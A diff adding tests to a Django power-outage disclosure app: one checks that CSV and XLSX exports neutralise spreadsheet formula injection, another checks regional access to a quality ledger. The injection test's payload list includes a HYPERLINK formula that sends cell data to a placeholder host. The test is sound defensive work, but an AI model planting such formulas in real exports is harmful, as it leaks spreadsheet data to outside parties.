@@ -3,8 +3,9 @@ data, planned outages (notice period, 一停多用, L28 warning) and repair tick
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
-from io import BytesIO
+from io import BytesIO, StringIO
 from typing import Any
 
 import pytest
@@ -278,3 +279,66 @@ def test_staff_of_another_company_cannot_open_a_repair_ticket(
         services.open_repair(
             users["staff_a"], district=District.objects.get(district_id="T4"), description="x"
         )
+
+
+FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"详情")', "+1+1", "-1+1", "@SUM(1)"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_staff_text_never_becomes_a_formula_in_the_disclosure_or_the_ledger_export(
+    refreshed: Any, users: dict[str, Any], frozen: Any, formula: str
+) -> None:
+    """OWASP CSV injection: the public .csv/.xlsx and the quality ledger export keep it text."""
+    entry = LedgerEntry.objects.get(number=T1)
+    services.plan_rectification(
+        users["staff_a"], entry, measures=formula, target_on=dt.date(2026, 12, 31),
+        responsible_team=formula,
+    )  # fmt: skip
+    public = Client()
+    csv_cells = [
+        cell
+        for row in csv.reader(
+            StringIO(public.get(reverse("outages:disclosure_csv")).content.decode("utf-8-sig"))
+        )
+        for cell in row
+    ]
+    assert "'" + formula in csv_cells
+    for response in (
+        public.get(reverse("outages:disclosure_xlsx")),
+        _client(users["regulator"]).get(reverse("outages:ledger_xlsx")),
+    ):
+        cells = [c for row in load_workbook(BytesIO(response.content)).active.iter_rows()
+                 for c in row]  # fmt: skip
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        assert "'" + formula in [c.value for c in cells]
+    for cell in csv_cells:
+        assert not cell.startswith(("=", "+", "-", "@"))
+
+
+@pytest.mark.parametrize(
+    ("key", "prefix"),
+    [("nea", "64"), ("drc", "64"), ("regulator_city", "6401"), ("regulator_county", "640104"),
+     ("energy_city", None), ("energy_province", None), ("department_province", None)],
+)  # fmt: skip
+def test_the_quality_ledger_is_read_by_organisation_within_its_region(
+    refreshed: Any, organisation_users: dict[str, Any], key: str, prefix: str | None
+) -> None:
+    """A city energy authority (a regulator by role) reads no quality ledger; a regulator reads
+    the entries of its own region only."""
+    from getelec.outages import selectors
+
+    seen = set(selectors.entries_for(organisation_users[key]).values_list("number", flat=True))
+    expected = (
+        set()
+        if prefix is None
+        else set(
+            LedgerEntry.objects.filter(region__code__startswith=prefix).values_list(
+                "number", flat=True
+            )
+        )
+    )
+    assert seen == expected
+    client = Client()
+    client.force_login(organisation_users[key])
+    status = client.get(reverse("outages:ledger")).status_code
+    assert status == (404 if prefix is None else 200)
